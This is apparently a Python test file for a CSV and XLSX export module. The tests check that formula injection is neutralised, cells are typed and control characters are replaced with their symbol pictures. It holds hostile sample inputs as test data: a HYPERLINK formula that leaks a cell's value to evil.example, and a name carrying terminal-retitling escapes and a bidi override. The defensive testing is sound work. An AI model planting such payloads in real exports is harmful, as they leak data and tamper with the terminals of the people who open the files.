"""The one writer of every export's CSV and XLSX: only what a spreadsheet would execute is
neutralised in CSV, XLSX cells are typed and never given an apostrophe, sheet titles are
valid. Each file is read back with the csv module or openpyxl."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from cc_terminal.control_pictures import shown
from cc_terminal.services.common.export_files import (
    Sheet,
    amount,
    executable,
    neutralise,
    sheet_titles,
    write_csv,
    write_xlsx,
)

PRAGUE = ZoneInfo("Europe/Prague")
phones = st.from_regex(r"\+[1-9][0-9]{6,14}", fullmatch=True)
signed_numbers = st.one_of(
    st.integers().map(lambda n: f"{n:+d}"),
    st.decimals(allow_nan=False, allow_infinity=False, places=2).map(lambda d: f"{d:+f}"),
)


@given(st.text())
def test_a_neutralised_value_is_never_executed_and_keeps_the_value(text):
    shown = neutralise(text)
    assert not executable(shown)
    assert shown == (("'" + text) if executable(text) else text)


@given(st.sampled_from(["=", "@", "\t", "\r"]), st.text())
def test_formula_starts_are_always_neutralised(first, rest):
    assert neutralise(first + rest) == "'" + first + rest


@given(st.one_of(phones, signed_numbers))
def test_phones_and_signed_numbers_stay_as_stored(value):
    assert neutralise(value) == value


@given(st.sampled_from(["+", "-"]), st.text(min_size=1).filter(lambda t: t[0] not in "0123456789"))
def test_a_sign_followed_by_something_else_than_a_number_is_neutralised(sign, rest):
    assert neutralise(sign + rest) == "'" + sign + rest


@pytest.mark.parametrize(
    "value, neutralised",
    [
        ("+420601123456", False),
        ("-5", False),
        ("+420 601 123 456", False),
        ("-12.50", False),
        ("+", False),
        ("Novák", False),
        ('=HYPERLINK("http://x","y")', True),
        ("@SUM(A1)", True),
        ("+Mobil", True),
        ("-1+2", True),
        ("- call back", True),
        ("\tx", True),
        ("\r=1", True),
    ],
)
def test_what_a_spreadsheet_would_execute(value, neutralised):
    assert executable(value) is neutralised


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=5))
def test_csv_reads_back_each_value_as_neutralised(tmp_path_factory, values):
    path = tmp_path_factory.mktemp("csv") / "out.csv"
    write_csv(path, [f"c{i}" for i in range(len(values))], [values], ";")
    with path.open(encoding="utf-8-sig", newline="") as file:
        _header, row = list(csv.reader(file, delimiter=";"))
    assert row == [neutralise(shown(value, multi_line=True)) for value in values]


def test_csv_writes_numbers_days_and_times_as_machines_read_them(tmp_path):
    path = tmp_path / "typed.csv"
    taxi = datetime(2026, 12, 4, 7, 0, tzinfo=UTC).astimezone(PRAGUE)
    row = ["+420601123456", amount(362800, "CZK", minor=True), date(2026, 12, 4), taxi, 3, None]
    write_csv(path, list("abcdef"), [row], ";")
    with path.open(encoding="utf-8-sig", newline="") as file:
        (_header, got) = list(csv.reader(file, delimiter=";"))
    assert got == ["+420601123456", "3628.00", "2026-12-04", "2026-12-04T08:00:00+01:00", "3", ""]


def test_a_time_without_its_zone_is_not_exported(tmp_path):
    with pytest.raises(ValueError):
        write_csv(tmp_path / "x.csv", ["at"], [[datetime(2026, 12, 4, 8, 0)]], ";")


@settings(max_examples=25, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"])))
def test_xlsx_text_comes_back_as_the_same_text_cell(tmp_path_factory, text):
    path = tmp_path_factory.mktemp("xlsx") / "out.xlsx"
    write_xlsx(path, [Sheet("T", [[text]])])
    cell = load_workbook(path).active["A1"]
    assert (cell.value or "") == shown(text, multi_line=True)
    if text:
        assert cell.data_type == "s"


def test_xlsx_cells_are_typed_and_formulas_are_text(tmp_path):
    path = tmp_path / "typed.xlsx"
    taxi = datetime(2026, 12, 4, 7, 0, tzinfo=UTC).astimezone(PRAGUE)
    link = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikni")'
    row = [link, "+420601123456", amount(362800, "CZK", minor=True), date(2026, 12, 4), taxi]
    write_xlsx(path, [Sheet("Orders", [list("abcde"), row])])
    formula, phone, price, day, moment = load_workbook(path).active[2]
    assert (formula.value, formula.data_type, formula.quotePrefix) == (link, "s", True)
    assert (phone.value, phone.data_type, phone.quotePrefix) == ("+420601123456", "s", False)
    assert price.data_type == "n" and price.value == Decimal("3628.00")
    assert price.number_format == '#,##0.00 "Kč"'
    assert day.is_date and day.value == datetime(2026, 12, 4) and day.number_format == "d.m.yyyy"
    assert moment.is_date and moment.value == datetime(2026, 12, 4, 8, 0)
    assert amount(Decimal("12.5"), "EUR").format == '#,##0.00 "€"'


def test_a_control_character_is_shown_as_its_picture_not_refused(tmp_path):
    path = tmp_path / "c.xlsx"
    write_xlsx(path, [Sheet("T", [["a\x1bb"]])])
    assert load_workbook(path).active["A1"].value == "a\u241bb"


def test_sheet_titles_are_valid_short_and_unique():
    titles = sheet_titles(["Pay 12/2026", "x" * 40, "x" * 40, "jana", "JANA", "[a]:b?", "'q'", ""])
    assert titles[0] == "Pay 12-2026"
    assert titles[1] == "x" * 31 and titles[2] == "x" * 27 + " (2)"
    assert titles[3:5] == ["jana", "JANA (2)"]
    assert titles[5] == "-a--b-" and titles[6] == "q" and titles[7] == "Sheet"
    assert all(len(title) <= 31 for title in titles)


def test_the_month_payroll_title_makes_a_workbook(tmp_path):
    path = tmp_path / "pay.xlsx"
    write_xlsx(path, [Sheet("Pay 12/2026", [["a"]]), Sheet("Pay 12/2026", [["b"]])])
    assert load_workbook(path).sheetnames == ["Pay 12-2026", "Pay 12-2026 (2)"]
    assert path.stat().st_mode & 0o777 == 0o600


def test_control_characters_never_go_raw_into_an_export(tmp_path):
    """A name holding a terminal title escape, a C1 CSI and a bidi override: `cat` of the
    CSV retitled the terminal, and the override reversed the cell in a spreadsheet."""
    hostile = "Eva \x1b]2;PWNED\x07\x9b2J \u202eexe.txt\nsecond line"
    pictured = "Eva ␛]2;PWNED␇\ufffd2J \ufffdexe.txt\nsecond line"
    write_csv(tmp_path / "out.csv", ["name"], [[hostile]], ";")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file, delimiter=";"))[1] == [pictured]
    write_xlsx(tmp_path / "out.xlsx", [Sheet("T", [[hostile]])])
    assert load_workbook(tmp_path / "out.xlsx").active["A1"].value == pictured
